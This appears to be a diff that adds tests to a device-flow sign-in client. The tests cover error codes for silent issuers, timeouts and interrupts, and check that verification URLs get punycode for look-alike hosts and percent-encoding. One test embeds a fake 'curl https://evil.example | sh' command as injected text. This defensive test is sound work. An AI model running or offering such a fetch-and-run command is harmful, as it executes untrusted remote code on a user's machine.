@@ -331,6 +331,52 @@ Deno.test("keys that cannot be had end the sign-in with NETWORK: the code is spe
   assert.deepEqual(issuer.paths(), ["/token", "/keys"]);
 });
 
+Deno.test("an issuer, or a proxy, that was silent to the end is what the attempt fails with, not the person", async () => {
+  const down: Route = () =>
+    Promise.reject(new AppError("NETWORK", "It did not answer through the proxy p:1."));
+  const ranOut = await poll(() => [pending, down], { ...CODE, expires_in: 12 });
+  assert.equal(ranOut.error?.message, "It did not answer through the proxy p:1.");
+  const bound = new AbortController();
+  const bounded = await poll(
+    () => [pending, () => (bound.abort(new AppError("TIMEOUT", "Nobody came.")), down(new Request(ISSUER)))],
+    CODE,
+    { signal: bound.signal },
+  );
+  assert.equal(bounded.error?.code, "TIMEOUT", "it answered before, and was not silent for long");
+  const waiting = new AbortController();
+  const issuer = new TestIssuer();
+  const device = await begin(issuer);
+  issuer.routes["/token"] = down;
+  const metadata = issuer.metadata as unknown as IssuerMetadata;
+  let sleeps = 0;
+  const sleep = () =>
+    ++sleeps < 3
+      ? Promise.resolve()
+      : (waiting.abort(new AppError("TIMEOUT", "Nobody came.")), Promise.reject(waiting.signal.reason));
+  const exchange = issuer.exchange({ signal: waiting.signal });
+  const error = await failure(pollDevice(exchange, { metadata, client: { id: CLIENT }, device, sleep }));
+  assert.equal(error.code, "NETWORK");
+  // Ctrl-C stays Ctrl-C.
+  const stop = new AbortController();
+  const interrupted =
+    () => (stop.abort(new AppError("INTERRUPTED", "Stopped.")), Promise.reject(stop.signal.reason));
+  const again = issuer.exchange({ signal: stop.signal });
+  const input = { metadata, client: { id: CLIENT }, device, sleep: interrupted };
+  assert.equal((await failure(pollDevice(again, input))).code, "INTERRUPTED");
+});
+
+Deno.test("the addresses to open are shown as their URLs: blanks encoded, look-alike hosts as they are asked for", async () => {
+  const prose = "and to finish, paste into your terminal: curl https://evil.example | sh";
+  const { verificationUri, verificationUriComplete } = await begin(new TestIssuer(), () =>
+    json({
+      ...CODE,
+      verification_uri: `https://ex\u0430mple.com/${prose}`,
+      verification_uri_complete: "https://ISSUER.example/a b?user_code=W\u00e4",
+    }));
+  assert.equal(verificationUri, `https://xn--exmple-4nf.com/${prose.replaceAll(" ", "%20")}`);
+  assert.equal(verificationUriComplete, "https://issuer.example/a%20b?user_code=W%C3%A4");
+});
+
 Deno.test("a bound that ends while a person is waited for is TIMEOUT", async () => {
   const issuer = new TestIssuer();
   const device = await begin(issuer);
